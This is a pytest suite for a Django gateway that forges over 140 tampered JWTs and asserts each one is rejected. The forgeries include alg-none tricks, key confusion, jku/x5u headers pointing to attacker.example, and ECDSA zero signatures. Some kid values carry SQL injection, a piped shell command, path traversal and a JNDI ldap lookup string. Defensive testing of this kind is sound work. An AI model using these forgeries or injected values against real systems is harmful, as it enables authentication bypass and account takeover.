"""Tokens that somebody else made, or made over: none is taken, whichever algorithm the gateway signs with.

The attacks are those of jwt_tool's playbook (RFC 8725) and of Wycheproof's JSON web signature and ECDSA vectors.
"""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from django.test import Client

from members import token_families
from members.models import Account
from members.signing_keys import pem_keys

ME = "/api/v1/auth/me"
#: The order of P-256 (FIPS 186-4, D.1.2.3).
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
PRIME = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def encoded(value: Any) -> str:
    raw = value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def decoded(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def pem_file(path: Path, key: Any) -> str:
    path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return str(path)


def public_pem(key: Any) -> bytes:
    return bytes(
        key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )


PRIVATE = ec.generate_private_key(ec.SECP256R1())
OTHER = ec.generate_private_key(ec.SECP256R1())


@pytest.fixture(params=["HS256", "ES256"])
def algorithm(request: pytest.FixtureRequest, settings: Any, tmp_path: Path) -> str:
    """The gateway signs with it."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.RATE_LIMIT_MAX = 100_000
    settings.JWT_PRIVATE_KEYS = (pem_file(tmp_path / "key.pem", PRIVATE),)
    settings.JWT_ALGORITHM = request.param
    settings.SIMPLE_JWT = {**settings.SIMPLE_JWT, "ALGORITHM": request.param}
    return str(request.param)


@pytest.fixture
def tokens(algorithm: str, db: None) -> token_families.TokenPair:
    return token_families.begin(Account.objects.create_user("siti@example.com", "a-password", member_id="m-1"))


def status_of(token: str, client: Client | None = None) -> int:
    return (client or Client()).get(ME, headers={"Authorization": f"Bearer {token}"}).status_code


def hs256(header: Any, payload: Any, secret: bytes) -> str:
    signed = f"{encoded(header)}.{encoded(payload)}"
    return f"{signed}.{encoded(hmac.digest(secret, signed.encode(), 'sha256'))}"


def raw_es256(header: Any, payload: Any, key: Any = PRIVATE) -> tuple[str, int, int]:
    """What is signed, and the two numbers of the signature."""
    signed = f"{encoded(header)}.{encoded(payload)}"
    return signed, *decode_dss_signature(key.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))


def es256(header: Any, payload: Any, key: Any = PRIVATE) -> str:
    signed, r, s = raw_es256(header, payload, key)
    return f"{signed}.{encoded(r.to_bytes(32) + s.to_bytes(32))}"


def with_header(parts: list[Any], **changes: Any) -> str:
    header = {name: value for name, value in {**json.loads(decoded(parts[0])), **changes}.items() if value != ...}
    return ".".join([encoded(header), *parts[1:]])


NONE_SPELLINGS = ("none", "None", "NONE", "nOnE", "NonE", " none", "none\u0000", "")
ALGORITHMS = ("HS384", "HS512", "RS256", "PS256", "ES384", "ES512", "ES256K", "EdDSA", "hs256", "es256", "HS256 ", None)


def forgeries(algorithm: str, token: str, refresh: str, secret: bytes) -> dict[str, str]:
    """What an attacker makes of a token that is good; `secret` is the gateway's, for what only it could sign."""
    parts: list[Any] = token.split(".")
    header, payload, signature = json.loads(decoded(parts[0])), json.loads(decoded(parts[1])), decoded(parts[2])
    public = public_pem(PRIVATE)
    jwk = {"kty": "oct", "k": encoded(b"attacker" * 4)}

    def own(changed_header: Any, changed_payload: Any = payload) -> str:
        """Signed with the gateway's own key, so that what was changed alone can be the reason."""
        if algorithm == "HS256":
            return hs256(changed_header, changed_payload, secret)
        return es256(changed_header, changed_payload)

    made = {f"alg {name!r}, no signature": with_header([*parts[:2], ""], alg=name) for name in NONE_SPELLINGS}
    made |= {f"alg {name!r}, the signature kept": with_header(parts, alg=name) for name in NONE_SPELLINGS}
    made |= {f"alg {name!r}, signed by its own key": own({**header, "alg": name}) for name in ALGORITHMS}
    made |= {
        "no alg": own({name: value for name, value in header.items() if name != "alg"}),
        "alg is a list": own({**header, "alg": [algorithm]}),
        "alg is an object": own({**header, "alg": {"name": algorithm}}),
        "header is a list": ".".join([encoded([header]), *parts[1:]]),
        "header is no JSON": ".".join([encoded(b"{"), *parts[1:]]),
        "header is deep": ".".join([encoded(b'{"a":' + b"[" * 4000 + b"]" * 4000 + b"}"), *parts[1:]]),
        "no signature": ".".join([*parts[:2], ""]),
        "no signature and no dot": ".".join(parts[:2]),
        "a dot more": f"{token}.",
        "five parts, as an encrypted token has": f"{token}.{parts[2]}.{parts[2]}",
        "JSON serialization": json.dumps(
            {"payload": parts[1], "signatures": [{"protected": parts[0], "signature": parts[2]}]}
        ).replace(" ", ""),
        "signed with an empty secret": hs256({**header, "alg": "HS256"}, payload, b""),
        "signed with a null byte": hs256({**header, "alg": "HS256"}, payload, b"\0"),
        "signed with a guessed secret": hs256({**header, "alg": "HS256"}, payload, b"secret"),
        "signed with the public key as a secret": hs256({**header, "alg": "HS256"}, payload, public),
        "signed with the public key in one line": hs256({**header, "alg": "HS256"}, payload, public.strip()),
        "signed with a foreign ES256 key": es256({**header, "alg": "ES256"}, payload, OTHER),
        "its own key in jwk": hs256({**header, "alg": "HS256", "jwk": jwk}, payload, b"attacker" * 4),
        "jwk beside its own good signature": own({**header, "jwk": jwk}),
        "jku": own({**header, "jku": "https://attacker.example/jwks.json"}),
        "x5u": own({**header, "x5u": "https://attacker.example/cert.pem"}),
        "x5c": own({**header, "x5c": [encoded(b"a certificate")]}),
        "crit of something unknown": own({**header, "crit": ["exp"], "exp": 1}),
        "crit is empty": own({**header, "crit": []}),
        "unencoded payload (RFC 7797)": own({**header, "b64": False, "crit": ["b64"]}),
        "zip": own({**header, "zip": "DEF"}),
        "cty JWT": own({**header, "cty": "JWT"}),
        "kid climbs to an empty file": hs256({**header, "alg": "HS256", "kid": "../../../dev/null"}, payload, b""),
        "kid is SQL": hs256({**header, "alg": "HS256", "kid": "x' UNION SELECT 'k'--"}, payload, b"k"),
        "kid is a command": hs256({**header, "alg": "HS256", "kid": "|echo k"}, payload, b"k"),
        "kid is empty": own({**header, "kid": ""}),
        "kid is a list": own({**header, "kid": [header["kid"]]}),
        "kid is a number": own({**header, "kid": 1}),
        "kid of nobody": own({**header, "kid": "0" * 8}),
        "another account": ".".join([parts[0], encoded({**payload, "sub": "99999"}), parts[2]]),
        "a longer life": ".".join([parts[0], encoded({**payload, "exp": payload["exp"] + 10_000}), parts[2]]),
        "the payload of another token": ".".join([parts[0], refresh.split(".")[1], parts[2]]),
        "the signature of another token": ".".join([*parts[:2], refresh.split(".")[2]]),
        "the refresh token": refresh,
        "one bit of the signature": ".".join([*parts[:2], encoded(bytes([signature[0] ^ 1]) + signature[1:])]),
        "the signature cut": ".".join([*parts[:2], encoded(signature[:-1])]),
        "the signature cut to one byte": ".".join([*parts[:2], encoded(signature[:1])]),
        "the signature with a byte more": ".".join([*parts[:2], encoded(signature + b"\0")]),
        "zeros as a signature": ".".join([*parts[:2], encoded(b"\0" * len(signature))]),
        "the hash without a key": ".".join([*parts[:2], encoded(hashlib.sha256(token.encode()).digest())]),
        "padding": f"{token}==",
        "padding within": ".".join([parts[0] + "=", *parts[1:]]),
        "a space within": ".".join([parts[0], parts[1][:9] + " " + parts[1][9:], parts[2]]),
        "a letter that base64 passes over": ".".join([*parts[:2], parts[2][:9] + "!" + parts[2][9:]]),
        "a line break behind it": f"{token}%0a",
        "base64 that is not for addresses": ".".join([*parts[:2], parts[2] + "+/"]),
        "no exp": own(header, {name: value for name, value in payload.items() if name != "exp"}),
        "no iat": own(header, {name: value for name, value in payload.items() if name != "iat"}),
        "no jti": own(header, {name: value for name, value in payload.items() if name != "jti"}),
        "no sid": own(header, {name: value for name, value in payload.items() if name != "sid"}),
        "no aud": own(header, {name: value for name, value in payload.items() if name != "aud"}),
        "no iss": own(header, {name: value for name, value in payload.items() if name != "iss"}),
        "over": own(header, {**payload, "exp": int(time.time()) - 31}),
        "exp is a text": own(header, {**payload, "exp": "never"}),
        "exp is not a number": own(header, {**payload, "exp": None}),
        "exp is endless": own(header, {**payload, "exp": float("inf")}),
        "made in the future": own(header, {**payload, "iat": int(time.time()) + 100}),
        "not yet good": own(header, {**payload, "nbf": int(time.time()) + 100}),
        "for others": own(header, {**payload, "aud": "another"}),
        "by others": own(header, {**payload, "iss": "another"}),
        "another kind": own(header, {**payload, "token_type": "refresh"}),
        "no kind": own(header, {name: value for name, value in payload.items() if name != "token_type"}),
        "sub is a number": own(header, {**payload, "sub": int(payload["sub"])}),
        "sub is a list": own(header, {**payload, "sub": [payload["sub"]]}),
        "sub of another account": own(header, {**payload, "sub": str(int(payload["sub"]) + 1)}),
        "sid of nobody": own(header, {**payload, "sid": "0" * 32}),
        "sid is no id": own(header, {**payload, "sid": "' OR 1=1"}),
        "payload is a list": own(header, [payload]),
        "payload is no JSON": own(header, b"{"),
        "payload is null": own(header, None),
    }  # fmt: skip
    made |= odd_json(own, header, payload) | embedded_keys(header, payload) | foreign_shapes(parts, secret)
    last = parts[2][-1]
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    made["the last letter's spare bits"] = token[:-1] + alphabet[alphabet.index(last) ^ 1]
    if algorithm == "ES256":
        made |= ecdsa_forgeries(header, payload)
    return made


def odd_json(own: Callable[..., str], header: Any, payload: Any) -> dict[str, str]:
    """What JSON allows and readers take differently: names twice, numbers beyond all, other encodings."""
    text, head = json.dumps(payload), json.dumps(header)
    numbers = {"NaN": "NaN", "1e400": "1e400", "negative": "-1", "true": "true", "a list": "[9999999999]"}
    numbers |= {"a fraction below": "1.5", "5000 digits": "9" * 5000}

    def with_number(claim: str, number: str) -> bytes:
        return json.dumps({**payload, claim: 0}).replace(f'"{claim}": 0', f'"{claim}": {number}').encode()

    made = {f"exp is {name}": own(header, with_number("exp", number)) for name, number in numbers.items()}
    made |= {f"{claim} is NaN": own(header, with_number(claim, "NaN")) for claim in ("iat", "nbf")}
    return made | {
        "sub twice": own(header, text[:-1].encode() + b', "sub": "99999"}'),
        "sid twice": own(header, text[:-1].encode() + b', "sid": "%s"}' % (b"0" * 32)),
        "token_type twice": own(header, text[:-1].encode() + b', "token_type": "refresh"}'),
        "alg twice, none last": own(head[:-1].encode() + b', "alg": "none"}'),
        "ALG in capitals": own(head.replace('"alg"', '"ALG"').encode()),
        "claims in capitals": own(header, {name.upper(): value for name, value in payload.items()}),
        "payload is broken UTF-8": own(header, text.replace("web-bff", "web-bff\u0000").encode() + b"\xc0\xaf"),
        "payload is a number": own(header, 1),
        "payload is a text": own(header, "claims"),
        "payload is deep": own(header, b'{"sub":' + b"[" * 4000 + b"]" * 4000 + b"}"),
        "payload is another token": own({**header, "cty": "JWT"}, own(header).encode()),
        "sub with a blank": own(header, {**payload, "sub": f" {payload['sub']}"}),
        "sub with digits of another script": own(header, {**payload, "sub": payload["sub"].translate(ARABIC)}),
        "sub is null": own(header, {**payload, "sub": None}),
        "sub is true": own(header, {**payload, "sub": True}),
        "aud is a list of others": own(header, {**payload, "aud": ["another", "others"]}),
        "iss is a list": own(header, {**payload, "iss": [payload["iss"]]}),
        "jti is an object": own(header, {**payload, "jti": {"a": 1}}),
    }


def embedded_keys(header: Any, payload: Any) -> dict[str, str]:
    """Tokens that bring the key to check them with, of each kind (CVE-2018-0114)."""
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    for_rsa = jwt.algorithms.RSAAlgorithm.to_jwk(rsa_key.public_key(), as_dict=True)
    for_ec = jwt.algorithms.ECAlgorithm.to_jwk(OTHER.public_key(), as_dict=True)
    pem = public_pem(OTHER).decode()
    rs256 = {**header, "alg": "RS256"}
    return {
        "jwk of an RSA key": jwt.encode(payload, rsa_key, algorithm="RS256", headers={**rs256, "jwk": for_rsa}),
        "jwk of an EC key": es256({**header, "alg": "ES256", "jwk": for_ec}, payload, OTHER),
        "jwk of an EC key with the gateway's kid": es256(
            {**header, "alg": "ES256", "jwk": {**for_ec, "kid": header["kid"]}}, payload, OTHER
        ),
        "keys of its own at jku": es256(
            {**header, "alg": "ES256", "jku": "https://attacker.example/.well-known/jwks.json", "kid": "a"},
            payload,
            OTHER,
        ),
        "a key as a PEM in x5c": es256({**header, "alg": "ES256", "x5c": [pem]}, payload, OTHER),
        "a thumbprint of its own": es256({**header, "alg": "ES256", "x5t": "a", "x5t#S256": "a"}, payload, OTHER),
        "kid is its own key": hs256({**header, "alg": "HS256", "kid": pem}, payload, pem.encode()),
    }


def foreign_shapes(parts: list[str], secret: bytes) -> dict[str, str]:
    """What is no signed token in compact form, and keys that a kid leads to."""
    header, payload = json.loads(decoded(parts[0])), json.loads(decoded(parts[1]))
    kids = {
        "a file of one digit": ("/proc/sys/kernel/randomize_va_space", b"2"),
        "a file of a style": ("../../static/style.css", b""),
        "an empty query": ("' UNION SELECT '' --", b""),
        "a null byte": (f"{header['kid']}\0", b"\0"),
        "a format": ("%s%n{0}${jndi:ldap://attacker.example}", b""),
        "an address": ("https://attacker.example/key", b"key"),
        "long": ("k" * 8000, b"k"),
        "null": (None, b""),
    }
    made = {
        f"kid is {name}": hs256({**header, "alg": "HS256", "kid": kid}, payload, key)
        for name, (kid, key) in kids.items()
    }
    encrypted = {"alg": "dir", "enc": "A256GCM"}
    return made | {
        "an encrypted token": ".".join([encoded(encrypted), "", *(encoded(b"0" * 12) for _ in range(3))]),
        "an encrypted token within three parts": ".".join([encoded(encrypted), *parts[1:]]),
        "signed with another hash": ".".join(
            [*parts[:2], encoded(hmac.digest(secret, ".".join(parts[:2]).encode(), "sha512"))]
        ),
        "signed with the secret in base64": hs256(header, payload, base64.b64encode(secret)),
        "the signature in hexadecimal": ".".join([*parts[:2], decoded(parts[2]).hex()]),
        "a signature alone": f"..{parts[2]}",
        "nothing": "..",
        "one part": parts[0],
        "a million letters": f"{parts[0]}.{'A' * 10_000}.{parts[2]}",
        "a scheme within": f"Bearer {'.'.join(parts)}",
        "two tokens": f"{'.'.join(parts)}, {'.'.join(parts)}",
    }


def ecdsa_forgeries(header: Any, payload: Any) -> dict[str, str]:
    """Signatures that a careless verifier of ECDSA takes."""
    signed, r, s = raw_es256(header, payload)
    der = PRIVATE.sign(signed.encode(), ec.ECDSA(hashes.SHA256()))
    p384 = ec.generate_private_key(ec.SECP384R1())
    wide_r, wide_s = decode_dss_signature(p384.sign(signed.encode(), ec.ECDSA(hashes.SHA384())))
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pairs = {
        "zeros (the psychic signature)": (0, 0),
        "r is zero": (0, s),
        "s is zero": (r, 0),
        "ones": (1, 1),
        "r is the order": (ORDER, s),
        "s is the order": (r, ORDER),
        "r beyond the order": ((r + ORDER) % 2**256, s),
        "s beyond the order": (r, (s + ORDER) % 2**256),
        "order and zero": (ORDER, 0),
        "all bits": (2**256 - 1, 2**256 - 1),
        "r and s changed places": (s, r),
        "r is one": (1, s),
        "r and s are the order less one": (ORDER - 1, ORDER - 1),
        "r is the prime of the field": (PRIME, s),
        "r is the prime less the order": (PRIME - ORDER, s),
        "half the order": (r, ORDER // 2),
    }
    made = {name: f"{signed}.{encoded(a.to_bytes(32) + b.to_bytes(32))}" for name, (a, b) in pairs.items()}
    return made | {
        "DER instead of two numbers": f"{signed}.{encoded(der)}",
        "numbers of another width": f"{signed}.{encoded(r.to_bytes(33) + s.to_bytes(33))}",
        "numbers of another curve": f"{signed}.{encoded(wide_r.to_bytes(48) + wide_s.to_bytes(48))}",
        "signed by another curve": jwt.encode(payload, p384, algorithm="ES384", headers=header | {"alg": "ES384"}),
        "signed by RSA": jwt.encode(payload, rsa_key, algorithm="RS256", headers=header | {"alg": "RS256"}),
    }


def test_no_forged_token_is_taken(algorithm: str, tokens: token_families.TokenPair, settings: Any) -> None:
    assert status_of(tokens.access) == 200
    secret = settings.JWT_SECRET[0].encode()

    made = forgeries(algorithm, tokens.access, tokens.refresh, secret)

    client = Client()
    taken = [name for name, token in made.items() if status_of(token, client) != 401]
    assert taken == []
    assert len(made) > 140
    assert status_of(tokens.access) == 200


def test_no_forged_refresh_token_is_taken(tokens: token_families.TokenPair, settings: Any) -> None:
    """Refresh tokens are always HS256, by a secret of their own."""

    client = Client()

    def refreshed(token: str) -> int:
        return client.post("/api/v1/auth/refresh", {"refresh_token": token}, "application/json").status_code

    secret = settings.REFRESH_TOKEN_SECRET[0].encode()
    made = forgeries("HS256", tokens.refresh, tokens.access, secret)
    # What these two change is the kind, which for a refresh token is the right one.
    del made["another kind"], made["token_type twice"]
    header, payload = (json.loads(decoded(part)) for part in tokens.access.split(".")[:2])
    made["an access token by the refresh secret"] = hs256({**header, "alg": "HS256"}, payload, secret)
    made["an access token as a refresh token"] = hs256(
        {**header, "alg": "HS256"}, {**payload, "token_type": "refresh"}, settings.JWT_SECRET[0].encode()
    )

    taken = [name for name, token in made.items() if refreshed(token) not in {400, 401}]
    assert taken == []
    assert refreshed(tokens.refresh) == 200


def test_what_the_forgeries_are_made_of_is_taken_when_nothing_is_changed(
    algorithm: str, tokens: token_families.TokenPair, settings: Any
) -> None:
    header, payload, _ = (decoded(part) for part in tokens.access.split("."))
    make: Callable[..., str] = es256
    if algorithm == "HS256":
        token = hs256(json.loads(header), json.loads(payload), settings.JWT_SECRET[0].encode())
    else:
        token = make(json.loads(header), json.loads(payload))

    assert status_of(token) == 200


def test_a_token_of_the_other_algorithm_is_not_taken(
    algorithm: str, tokens: token_families.TokenPair, settings: Any
) -> None:
    other = {"HS256": "ES256", "ES256": "HS256"}[algorithm]
    settings.JWT_ALGORITHM = other
    settings.SIMPLE_JWT = {**settings.SIMPLE_JWT, "ALGORITHM": other}

    assert status_of(tokens.access) == 401
    assert token_families.rotate(tokens.refresh).account == tokens.account


def test_others_verify_our_tokens_with_the_keys_at_the_well_known_address(
    tokens: token_families.TokenPair, algorithm: str, settings: Any, tmp_path: Path
) -> None:
    answer = Client().get("/.well-known/jwks.json")
    if algorithm == "HS256":
        assert (answer.status_code, answer.json()["code"]) == (404, "not_found")
        return
    assert answer.headers["Cache-Control"] == "public, max-age=300"
    keys = jwt.PyJWKSet.from_dict(answer.json())
    kid = jwt.get_unverified_header(tokens.access)["kid"]

    claims = jwt.decode(tokens.access, keys[kid], algorithms=["ES256"], audience="web-portals", issuer="web-bff")

    assert claims["sub"] == str(tokens.account.pk)
    assert [set(key) for key in answer.json()["keys"]] == [{"kty", "crv", "x", "y", "kid", "use", "alg"}]
    # RFC 7638 with the public numbers alone.
    assert pem_keys(settings.JWT_PRIVATE_KEYS)[0].kid == kid
